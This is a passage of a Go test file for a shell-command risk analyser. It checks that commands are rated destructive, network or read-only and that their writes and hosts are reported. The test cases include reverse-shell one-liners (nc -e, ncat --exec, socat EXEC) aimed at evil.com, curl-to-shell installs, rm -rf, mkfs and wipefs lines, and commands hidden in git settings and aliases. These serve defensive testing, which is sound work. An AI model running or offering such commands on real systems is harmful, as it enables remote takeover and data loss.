package shell

import (
	"slices"
	"strings"
	"testing"
)

// worstCase is a command and what its analysis must say: effect, whether
// it is unknown, the paths it must write (each listed, or none when
// writes is nil and noWrites is set) and its hosts.
type worstCase struct {
	cmd      string
	effect   Effect
	unknown  bool
	writes   []string // each must be in Writes
	noWrites bool     // Writes must be empty
	hosts    []string // Hosts must be exactly these (nil: not checked)
}

func checkCases(t *testing.T, cases []worstCase) {
	t.Helper()
	for _, c := range cases {
		a := Analyze(c.cmd, Options{Dir: "/proj"})
		if a.Effect != c.effect || a.Unknown != c.unknown {
			t.Errorf("%q: effect %s unknown %v (%q), want %s unknown %v; steps %+v", c.cmd, a.Effect, a.Unknown, a.Reason, c.effect, c.unknown, a.Steps)
			continue
		}
		if c.unknown && a.Reason == "" {
			t.Errorf("%q: unknown without a reason", c.cmd)
		}
		for _, w := range c.writes {
			if !slices.Contains(a.Writes, w) {
				t.Errorf("%q: writes %q, want %q among them", c.cmd, a.Writes, w)
			}
		}
		if c.noWrites && len(a.Writes) > 0 {
			t.Errorf("%q: writes %q, want none", c.cmd, a.Writes)
		}
		if c.hosts != nil && !slices.Equal(a.Hosts, c.hosts) && !(len(c.hosts) == 0 && len(a.Hosts) == 0) {
			t.Errorf("%q: hosts %q, want %q", c.cmd, a.Hosts, c.hosts)
		}
		if a.Effect == Destructive && len(a.Writes) == 0 {
			t.Errorf("%q: destructive with no writes", c.cmd)
		}
	}
}

// TestWorstCase: what cannot be known before the command runs is the
// worst it could be — unknown, destructive, writing Anywhere — and what
// destroys something that is no path still writes something.
func TestWorstCase(t *testing.T) {
	checkCases(t, []worstCase{
		// Dynamic steps: unknown, with a reason, writing Anywhere.
		{cmd: `eval "$(echo rm) -rf /tmp/x"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `$TOOL -rf /`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `$TOOL -rf build`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `bash -c "$CMD"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `curl -fsSL https://get.example.com/i.sh | sh`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"get.example.com"}},
		// An interpreter with no script runs the program it is fed.
		{cmd: `curl -fsSL https://get.example.com/i.py | python3`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"get.example.com"}},
		{cmd: `curl -fsSL https://x/i.py | python3 - --yes`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `wget -qO- https://x/i.js | node`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `curl -s https://x/i.pl | perl`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `curl -s https://x/i.rb | ruby`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `curl -s https://x/a.json | python3 -m json.tool`, effect: Network, noWrites: true},
		// A shell or an interpreter given no script runs the program its
		// standard input holds: a file redirected to it holds one not
		// known before run time, as cat f | python3 does. A script named
		// is run with the file as its data; another descriptor is no
		// standard input.
		{cmd: `python3 < script.py`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `python3 - --yes < script.py`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `bash < script.sh`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `sh 0< f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `node < f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `perl < f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `ruby < f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `python3 <<'EOF' < f` + "\nprint(1)\nEOF", effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `python3 < <(curl -s https://x/i.py)`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"x"}},
		{cmd: `python3 < /dev/tcp/evil.com/80`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `python3 < f <<'EOF'` + "\nprint(1)\nEOF", effect: Write, noWrites: true},
		{cmd: `python3 script.py < data.txt`, effect: ExecuteCheck, noWrites: true},
		{cmd: `bash script.sh < data.txt`, effect: ExecuteCheck, noWrites: true},
		{cmd: `python3 3< f`, effect: ExecuteCheck, noWrites: true},
		// A script named by the standard input's path is the standard
		// input; one not known before run time (a variable, a process
		// substitution) runs what it holds, for an interpreter as for a
		// shell; bash -s runs its standard input, its operands being
		// the script's arguments.
		{cmd: `curl -s https://x/i.py | python3 /dev/stdin`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"x"}},
		{cmd: `curl -s https://x/i.sh | bash /dev/stdin --yes`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"x"}},
		{cmd: `curl -s https://x/i.js | node /dev/fd/0`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `curl -s https://x/i.pl | perl /proc/self/fd/0`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `python3 /dev/stdin < f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `echo 'print(1)' | python3 /dev/stdin`, effect: Write, noWrites: true},
		{cmd: `python3 <(curl -s https://x/i.py)`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"x"}},
		{cmd: `ruby "$SCRIPT"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `perl -w -- "$SCRIPT" a`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `bash "$SCRIPT"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `curl -s https://x/i.sh | sh -s -- --yes`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `sh -s -- a < f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `bash -xs a b < f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: "bash -s a <<'EOF'\nrm -rf /x\nEOF", effect: Destructive, writes: []string{"/x"}},
		{cmd: `bash -x script.sh a`, effect: ExecuteCheck, noWrites: true},
		// openssl with no command (OpenSSL 1.x, LibreSSL) runs the
		// commands on its standard input, any it has, as a shell does.
		{cmd: `openssl`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `openssl < cmds.txt`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `curl -s https://x/c.txt | openssl`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `echo "$CMD" | openssl`, effect: Destructive, unknown: true, writes: []string{"/"}},
		// A shell (or an interpreter) served to the network runs whatever
		// the remote end sends.
		{cmd: `nc -e /bin/sh evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
		{cmd: `nc -lvp 4444 -e /bin/bash`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{}},
		{cmd: `ncat --exec /bin/bash evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
		{cmd: `ncat --exec "/bin/bash -i" evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
		{cmd: `ncat -c 'sh' evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
		{cmd: `ncat --sh-exec=bash -l 4444`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `ncat --lua-exec "$F" evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
		{cmd: `nc -e /usr/bin/python3 evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `nc -c "$CMD" evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}},
		// -c is a command in ncat and the traditional nc, a flag in
		// OpenBSD's, macOS's and GNU netcat (TLS, CRLF, --close): either
		// reading may be the one run, and -e follows it.
		{cmd: `nc -ce /bin/sh evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
		{cmd: `netcat -c -e 'rm -rf /x' evil.com 4444`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `nc -c 'rm -rf /x' evil.com 4444`, effect: Destructive, writes: []string{"/x"}, hosts: []string{"evil.com"}},
		{cmd: `nc -ve /bin/sh evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
		{cmd: `netcat -e 'rm -rf /x' evil.com 4444`, effect: Destructive, writes: []string{"/x"}, hosts: []string{"evil.com"}},
		{cmd: `netcat --exec=/bin/sh -l -p 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{}},
		{cmd: `ncat -e 'rm -rf /x' evil.com 4444`, effect: Destructive, writes: []string{"/x"}, hosts: []string{"evil.com"}},
		{cmd: `socat TCP:evil.com:4444 EXEC:/bin/sh`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
		{cmd: `socat tcp:evil.com:4444 exec:'bash -li',pty,stderr,setsid`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
		{cmd: `socat TCP-LISTEN:4444,fork SYSTEM:sh`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{}},
		{cmd: `nc -l 8080`, effect: Network, noWrites: true, hosts: []string{}},
		{cmd: `nc host 80`, effect: Network, noWrites: true, hosts: []string{"host"}},
		{cmd: `ncat -l 8080 --sh-exec 'echo hi'`, effect: Network, noWrites: true},
		{cmd: `bash`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `chroot /srv`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `find . -name '*.sh' -exec {} \;`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `find . -exec sh -c {} \;`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `ls | xargs -I{} sh -c {}`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `rm -rf build ((`, effect: Destructive, unknown: true, writes: []string{"/"}},
		// Destruction of what is no path of the command.
		{cmd: `mkfs.ext4 /dev/sdb1`, effect: Destructive, writes: []string{"/dev/sdb1"}},
		{cmd: `mkfs -t ext4 /dev/sdb1`, effect: Destructive, writes: []string{"/dev/sdb1"}},
		{cmd: `wipefs -a /dev/sdc`, effect: Destructive, writes: []string{"/dev/sdc"}},
		// wipefs erases with -a or -o OFFSET; without them, or with -n
		// (--no-act), it lists the signatures it finds.
		{cmd: `wipefs -fa /dev/sdc`, effect: Destructive, writes: []string{"/dev/sdc"}},
		{cmd: `wipefs --all --backup /dev/sdc`, effect: Destructive, writes: []string{"/dev/sdc"}},
		{cmd: `wipefs -o 0x1fe /dev/sdc`, effect: Destructive, writes: []string{"/dev/sdc"}},
		{cmd: `wipefs --offset=0x438 /dev/sdc1 /dev/sdc2`, effect: Destructive, writes: []string{"/dev/sdc1", "/dev/sdc2"}},
		{cmd: `wipefs -o0x438 -t ext4 /dev/sdc`, effect: Destructive, writes: []string{"/dev/sdc"}},
		{cmd: `wipefs /dev/sdc`, effect: ReadOnly, noWrites: true},
		{cmd: `wipefs -J -O DEVICE,OFFSET -t ext4 /dev/sdc`, effect: ReadOnly, noWrites: true},
		{cmd: `wipefs -n -a /dev/sdc`, effect: ReadOnly, noWrites: true},
		{cmd: `wipefs -an /dev/sdc`, effect: ReadOnly, noWrites: true},
		{cmd: `wipefs --no-act --offset 0x1fe /dev/sdc`, effect: ReadOnly, noWrites: true},
		{cmd: `docker system prune -af`, effect: Destructive, writes: []string{"/"}},
		{cmd: `kubectl delete namespace prod`, effect: Destructive, writes: []string{"/"}},
		{cmd: `git push --force origin main`, effect: Destructive, writes: []string{"/"}, hosts: []string{"<remote origin>"}},
		{cmd: `git push origin +main`, effect: Destructive, writes: []string{"/"}},
		{cmd: `git branch -D feature`, effect: Destructive, writes: []string{"/proj"}},
		{cmd: `git stash drop`, effect: Destructive, writes: []string{"/proj"}},
		{cmd: `git tag -d v1`, effect: Destructive, writes: []string{"/proj"}},
		{cmd: `git reflog expire --expire=now --all`, effect: Destructive, writes: []string{"/proj"}},
		{cmd: `git reset --hard`, effect: Destructive, writes: []string{"/proj"}},
		// git finds the repository above a subdirectory: not nameable.
		{cmd: `cd build && git reset --hard`, effect: Destructive, writes: []string{"/"}},
		{cmd: `git -C build branch -D main`, effect: Destructive, writes: []string{"/"}},
		// -C is for that git alone.
		{cmd: `git -C /tmp/repo status; rm -rf x`, effect: Destructive, writes: []string{"/proj/x"}},
		{cmd: `aws s3 rm s3://bucket/x --recursive`, effect: Destructive, writes: []string{"/"}},
		{cmd: `aws s3 sync . s3://bucket --delete`, effect: Destructive, writes: []string{"/"}},
		{cmd: `aws ec2 terminate-instances --instance-ids i-1`, effect: Destructive, writes: []string{"/"}},
		{cmd: `aws s3 ls`, effect: Network, noWrites: true},
		{cmd: `gh repo delete x --yes`, effect: Destructive, writes: []string{"/"}},
		{cmd: `gh api -X DELETE repos/a/b`, effect: Destructive, writes: []string{"/"}},
		{cmd: `gh api -XDELETE repos/a/b`, effect: Destructive, writes: []string{"/"}},
		{cmd: `gh pr create --title x --body y`, effect: Write, noWrites: true},
		{cmd: `gh pr list`, effect: Network, noWrites: true},
		{cmd: `psql -c "drop table x"`, effect: Destructive, writes: []string{"/"}},
		{cmd: `psql -c "select 1"`, effect: Write, noWrites: true},
		{cmd: `psql -c '\! rm -rf /x'`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `mysql -e 'DELETE FROM users'`, effect: Destructive, writes: []string{"/"}},
		{cmd: `sqlite3 app.db 'drop table x'`, effect: Destructive, writes: []string{"/proj/app.db"}},
		{cmd: `sqlite3 -readonly app.db 'select 1'`, effect: ReadOnly, noWrites: true},
		{cmd: `cargo clean`, effect: Destructive, writes: []string{"/"}},
		{cmd: `crontab -r`, effect: Destructive, writes: []string{"/"}},
		{cmd: `crontab -u deploy -ir`, effect: Destructive, writes: []string{"/"}},
		{cmd: `crontab -l`, effect: ReadOnly, noWrites: true},
	})
}

// TestCodeGiven: awk and sed programs are read for what they write and
// run; inline interpreter code counts as write.
func TestCodeGiven(t *testing.T) {
	checkCases(t, []worstCase{
		{cmd: `awk 'BEGIN{system("rm -rf /x")}'`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `awk '{print | "sh"}' f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `awk 'BEGIN{"date" | getline d; print d}'`, effect: Destructive, unknown: true},
		{cmd: `awk '{ print $0 |& "cat" }' f`, effect: Destructive, unknown: true},
		{cmd: `gawk '@load "filefuncs"; BEGIN{}'`, effect: Destructive, unknown: true},
		{cmd: `gawk 'BEGIN{f="system"; @f("rm -rf /x")}'`, effect: Destructive, unknown: true},
		{cmd: `gawk -l ordchr 'BEGIN{}'`, effect: Destructive, unknown: true},
		{cmd: `awk "$PROG" f`, effect: Destructive, unknown: true},
		{cmd: `awk -e "$PROG" f`, effect: Destructive, unknown: true},
		{cmd: `awk '{print $1 > "out.txt"}' f`, effect: Write, writes: []string{"/proj/out.txt"}},
		{cmd: `awk '{print $1 >> "/tmp/o"}' f`, effect: Write, writes: []string{"/tmp/o"}},
		{cmd: `awk '{print $1 > $2}' f`, effect: Write, writes: []string{"/"}},
		{cmd: `gawk -i inplace '{gsub(/a/,"b")}1' f`, effect: Write, writes: []string{"/proj/f"}},
		{cmd: `awk -f prog.awk f`, effect: ExecuteCheck, noWrites: true},
		// Harmless awk stays read-only.
		{cmd: `awk '{print $1}' f`, effect: ReadOnly, noWrites: true},
		{cmd: `awk -F: '{print $1}' /etc/passwd`, effect: ReadOnly, noWrites: true},
		{cmd: `awk '$3 > 100 {print}' f`, effect: ReadOnly, noWrites: true},
		{cmd: `awk '{ if ($1 > 5) print $1 }' f`, effect: ReadOnly, noWrites: true},
		{cmd: `awk '/a|b/ {print $2}' f`, effect: ReadOnly, noWrites: true},
		{cmd: `awk 'NR==1 || NR==2' f`, effect: ReadOnly, noWrites: true},
		{cmd: `awk '{s += $1 / 2} END {print s}' f`, effect: ReadOnly, noWrites: true},
		{cmd: `awk -v x=1 '{print x, "a|b"}' f`, effect: ReadOnly, noWrites: true},
		{cmd: `ls -l | awk '{print $5 > 100}'`, effect: Write, writes: []string{"/"}}, // a redirection, not a comparison

		{cmd: `echo | sed -n '1e rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `sed 's/x/y/e' f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `sed -n 'e' f`, effect: Destructive, unknown: true},
		{cmd: `sed "$S" f`, effect: Destructive, unknown: true},
		{cmd: `sed 's/a/b/w out.txt' f`, effect: Write, writes: []string{"/proj/out.txt"}},
		{cmd: `sed -n '/x/w /tmp/o' f`, effect: Write, writes: []string{"/tmp/o"}},
		{cmd: `sed -i 's/a/b/' f`, effect: Write, writes: []string{"/proj/f"}},
		{cmd: `sed -i.bak -e 's/a/b/' f`, effect: Write, writes: []string{"/proj/f"}},
		{cmd: `sed -f script.sed f`, effect: ExecuteCheck, noWrites: true},
		// Harmless sed stays read-only.
		{cmd: `sed -n 1p f`, effect: ReadOnly, noWrites: true},
		{cmd: `sed 's/hello/world/' f`, effect: ReadOnly, noWrites: true},
		{cmd: `sed -ne '1,10p' f`, effect: ReadOnly, noWrites: true},
		{cmd: `sed '/^#/d;s/ *$//' f`, effect: ReadOnly, noWrites: true},
		{cmd: `sed -E 's#a/b#c#g' f`, effect: ReadOnly, noWrites: true},
		{cmd: `sed '1!G;h;$!d' f`, effect: ReadOnly, noWrites: true},
		{cmd: `sed 'y/abc/xyz/' f`, effect: ReadOnly, noWrites: true},
		{cmd: `sed '$a the end' f`, effect: ReadOnly, noWrites: true},
		{cmd: `sed -n '/start/,/end/{p}' f`, effect: ReadOnly, noWrites: true},

		{cmd: `perl -e 'unlink "x"'`, effect: Write},
		{cmd: `perl -pe 's/a/b/' f`, effect: Write},
		{cmd: `perl -ne 'print if /x/' f`, effect: Write},
		{cmd: `perl -lane 'print $F[0]' f`, effect: Write},
		{cmd: `perl -i -pe 's/a/b/' f`, effect: Write, writes: []string{"/proj/f"}},
		{cmd: `perl -pi -e 's/a/b/' f g`, effect: Write, writes: []string{"/proj/f", "/proj/g"}},
		{cmd: `perl script.pl`, effect: ExecuteCheck, noWrites: true},
		{cmd: `python -Bc 'import os'`, effect: Write},
		{cmd: `ruby -ne 'print' f`, effect: Write},
		{cmd: `node -pe 1`, effect: Write},
		// Code fed by the command itself is inline code.
		{cmd: "python3 <<'EOF'\nimport os\nEOF", effect: Write},
		{cmd: `echo 'print(1)' | python3`, effect: Write},
		{cmd: `echo 'print 1' | perl -`, effect: Write},
		{cmd: `python3 --version`, effect: ExecuteCheck},
	})
}

// TestCommandsRunningCommands: wrappers and options that run a command.
func TestCommandsRunningCommands(t *testing.T) {
	checkCases(t, []worstCase{
		{cmd: `busybox rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `busybox sh -c 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		// In another root the paths named are under it: not known here.
		{cmd: `chroot /srv rm -rf /x`, effect: Destructive, unknown: true, writes: []string{"/x", "/"}},
		{cmd: `chroot --userspec=1:1 /srv rm -rf /x`, effect: Destructive, unknown: true, writes: []string{"/x", "/"}},
		{cmd: `chroot / rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `env rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `env - rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `env -i PATH=/bin rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `nice rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `timeout 5 rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `sudo rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `nohup rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `time rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `command rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `exec rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `fakeroot rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `runuser -u app -- rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `runuser root -c "rm -rf /x"`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `find . | xargs rm -rf`, effect: Destructive, writes: []string{"<xargs input>"}},
		{cmd: `ls | xargs -I % rm %`, effect: Destructive, writes: []string{"<xargs input>"}},
		{cmd: `git -c alias.x='!rm -rf /x' x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git -c alias.x='!rm -rf' x /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git -c alias.x='!rm -rf /x' status`, effect: ReadOnly, noWrites: true},
		{cmd: `git -c alias.x='!echo' x "$F"`, effect: ReadOnly, noWrites: true},
		{cmd: `git -c alias.x="$A" x`, effect: Destructive, unknown: true, writes: []string{"/"}},
		// GNU parallel runs its command through a shell for each input
		// (its ::: words, or the lines of its standard input), as xargs
		// does; with no command, each input is one.
		{cmd: `parallel rm -rf ::: a b`, effect: Destructive, writes: []string{"<parallel input>"}},
		{cmd: `parallel -j4 'rm -rf {}' ::: a b`, effect: Destructive, writes: []string{"<parallel input>"}},
		{cmd: `ls | parallel rm`, effect: Destructive, writes: []string{"<parallel input>"}},
		{cmd: `ls | parallel -I @ mv @ @.bak`, effect: Write, writes: []string{"<parallel input>.bak"}},
		{cmd: `parallel "sh -c 'rm {/}'" :::: list`, effect: Destructive, writes: []string{"<parallel input>"}},
		{cmd: `parallel ::: 'rm -rf /x' ls`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `cat cmds | parallel -j8`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `parallel ::: "$C"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `parallel "$C" ::: a`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `parallel gzip -k ::: a b`, effect: Write},
		{cmd: `parallel echo {} ::: a b`, effect: ReadOnly, noWrites: true},
		// parallel -S (--sshlogin) runs the command on remote hosts through
		// ssh, as ssh HOST CMD does; ":" is this machine.
		{cmd: `parallel -S server1 'rm -rf /x/{}' ::: a`, effect: Destructive, writes: []string{"/x/<parallel input>"}, hosts: []string{"server1"}},
		{cmd: `parallel --sshlogin=u@s1,2/s2 rm -rf ::: /x`, effect: Destructive, writes: []string{"<parallel input>"}, hosts: []string{"s1", "s2"}},
		{cmd: `parallel -S s1 rm -rf build ::: a`, effect: Destructive, writes: []string{"build"}, hosts: []string{"s1"}},
		{cmd: `parallel -S :,s1 rm -rf build ::: a`, effect: Destructive, writes: []string{"build", "/proj/build"}, hosts: []string{"s1"}},
		{cmd: `parallel -S s1 ::: 'rm -rf /x' ls`, effect: Destructive, writes: []string{"/x"}, hosts: []string{"s1"}},
		{cmd: `parallel -S s1 echo {} ::: a b`, effect: Network, noWrites: true, hosts: []string{"s1"}},
		{cmd: `parallel -S : gzip -k ::: a b`, effect: Write, hosts: []string{}},
		{cmd: `parallel -S '4/ssh -p 2222 s1' echo ::: a`, effect: Network, noWrites: true, hosts: []string{"s1"}},
		{cmd: `parallel -S 'rm -rf /x; ssh s1' echo ::: a`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `parallel --ssh 'rm -rf /x' -S s1 echo ::: a`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `parallel -S "$H" echo ::: a`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `parallel --slf hosts.txt echo ::: a`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `parallel -S .. echo ::: a`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `ls | parallel -S s1 rm`, effect: Destructive, writes: []string{"<parallel input>"}, hosts: []string{"s1"}},
		// PARALLEL holds parallel's default options, read before its own;
		// PARALLEL_SSH is the ssh command it runs, as --ssh's.
		{cmd: `PARALLEL='-S s1' parallel 'rm -rf /x/{}' ::: a`, effect: Destructive, writes: []string{"/x/<parallel input>"}, hosts: []string{"s1"}},
		{cmd: `export PARALLEL='-j4 -S s1'; parallel rm -rf build ::: a`, effect: Destructive, writes: []string{"build"}, hosts: []string{"s1"}},
		{cmd: `env PARALLEL='-S s1' parallel echo {} ::: a b`, effect: Network, noWrites: true, hosts: []string{"s1"}},
		{cmd: `PARALLEL='--ssh "rm -rf /x"' parallel -S s1 echo ::: a`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `PARALLEL='--ssh "rm -rf /x"' parallel echo ::: a`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `PARALLEL='-S rm\ -rf\ /x\;\ ssh\ s1' parallel echo ::: a`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `PARALLEL='--slf hosts.txt' parallel echo ::: a`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `PARALLEL="$P" parallel echo ::: a`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `PARALLEL='-S s1; rm -rf /x' parallel echo ::: a`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `PARALLEL='-j4 -k --tag' parallel echo {} ::: a b`, effect: ReadOnly, noWrites: true, hosts: []string{}},
		{cmd: `PARALLEL= parallel echo {} ::: a b`, effect: ReadOnly, noWrites: true, hosts: []string{}},
		{cmd: `PARALLEL='-S s1' ls`, effect: ReadOnly, noWrites: true},
		{cmd: `PARALLEL_SSH='rm -rf /x' parallel -S s1 echo ::: a`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `PARALLEL_SSH='ssh -p 2222' parallel -S s1 echo ::: a`, effect: Network, noWrites: true, hosts: []string{"s1"}},
		{cmd: `PARALLEL_SSH="$S" parallel -S s1 echo ::: a`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `git -c alias.p='push --force' p origin main`, effect: Destructive, writes: []string{"/"}},
		// A -c setting that runs a command (gitRunKey, as git config's)
		// is analysed as that command.
		{cmd: `git -c core.pager='rm -rf /x' log`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git -c core.sshCommand='rm -rf /x' fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git -c core.fsmonitor='rm -rf /x' status`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git -c core.editor='rm -rf /x' commit`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git -c diff.external='rm -rf /x' diff`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git -c credential.helper='!rm -rf /x' fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git -c Core.SSHCommand='ssh -i k' fetch`, effect: Network, noWrites: true},
		{cmd: `git -c core.pager=less log`, effect: ReadOnly, noWrites: true},
		{cmd: `git -c credential.helper=store fetch`, effect: Write, noWrites: true},
		{cmd: `git -c core.pager="$P" log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `git --config-env=core.pager=P log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `git -c core.hooksPath=/tmp/h commit -m x`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `git -c user.name=x -c user.email=y commit -m z`, effect: Write, noWrites: true},
		{cmd: `git push --receive-pack='rm -rf /x' ../repo main`, effect: Destructive, unknown: true},
		// git subcommands that run a command their options or operands give.
		{cmd: `git difftool -x 'rm -rf /x' HEAD~1`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git difftool -y --extcmd='rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git difftool -x "$T"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `git rebase -x 'rm -rf /x' HEAD~2`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git rebase --onto main --exec='make test' HEAD~2`, effect: Write, noWrites: true},
		{cmd: `git grep -O'rm -rf /x' foo`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git grep --open-files-in-pager='rm -rf /x' foo`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git grep -n -O foo`, effect: ReadOnly, noWrites: true},
		{cmd: `git bisect run rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git bisect run sh -c 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git bisect run go test ./...`, effect: Write, noWrites: true},
		{cmd: `git submodule foreach 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git submodule foreach --recursive rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git submodule foreach "$C"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `git submodule foreach git status`, effect: Write, noWrites: true},
		{cmd: `git --exec-path=/tmp/x status`, effect: ExecuteCheck, noWrites: true},
		// git config stores a setting a later git reads: a command it
		// runs is analysed as one the command runs.
		{cmd: `git config core.pager 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git config --global core.editor 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git config set core.sshCommand 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git config set --append merge.x.driver 'rm -rf /x %A'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git config --file .git/config diff.pdf.textconv 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git config --local filter.a.smudge 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git config --add alias.x '!rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git config alias.p 'push --force'`, effect: Destructive, writes: []string{"/"}},
